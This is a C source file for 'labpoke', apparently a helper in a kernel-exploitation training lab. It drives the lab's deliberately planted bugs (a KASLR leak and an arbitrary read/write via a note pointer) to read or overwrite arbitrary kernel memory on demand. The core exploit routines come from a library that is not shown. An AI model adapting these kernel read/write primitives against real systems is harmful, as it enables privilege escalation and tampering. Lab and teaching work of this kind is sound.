// SPDX-License-Identifier: GPL-2.0
/*
 * labpoke: an attacker's data-only kernel write, on demand, for scenarios
 * that need one the lab attacks do not make (tamper with a string, point a
 * kernel pointer elsewhere).  It uses the vedlab bugs exactly as the lab
 * attacks do (lab/exploits/lib): KASLR leak, then the note body pointer
 * turned into an arbitrary read/write.  Addresses are given in hex, found
 * by the caller (a scenario reads /proc/kallsyms as root).
 *
 * Usage: labpoke r64 ADDR | rstr ADDR | w64 ADDR VALUE | wstr ADDR STRING
 * ADDR and VALUE are hex, optionally HEX+HEX (symbol plus offset).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "exp.h"

static uint64_t hex(const char *s)
{
	char *end;
	uint64_t v = strtoull(s, &end, 16);

	if (end != s && *end == '+')
		return v + hex(end + 1);
	if (end == s || *end)
		die("not a hex number: %s", s);
	return v;
}

int main(int argc, char **argv)
{
	const char *op = argc > 2 ? argv[1] : "";
	uint64_t addr;
	char buf[256];

	if (!((!strcmp(op, "r64") || !strcmp(op, "rstr")) && argc == 3) &&
	    !((!strcmp(op, "w64") || !strcmp(op, "wstr")) && argc == 4)) {
		fprintf(stderr, "usage: labpoke r64 ADDR | rstr ADDR | w64 ADDR VALUE | wstr ADDR STRING\n");
		return 2;
	}
	addr = hex(argv[2]);
	if (!strcmp(op, "wstr") && strlen(argv[3]) >= sizeof(buf))
		die("string too long (max %zu)", sizeof(buf) - 1);
	profile_load();
	int fd = lab_open();

	leak_kbase(fd);
	arb_init(fd);
	if (!strcmp(op, "r64")) {
		printf("%#llx\n", (unsigned long long)kread64(addr));
	} else if (!strcmp(op, "rstr")) {
		kread(addr, buf, sizeof(buf));
		buf[sizeof(buf) - 1] = '\0';
		printf("%s\n", buf);
	} else if (!strcmp(op, "w64")) {
		kwrite64(addr, hex(argv[3]));
	} else {
		kwrite(addr, argv[3], strlen(argv[3]) + 1);
	}
	arb_restore();
	return 0;
}
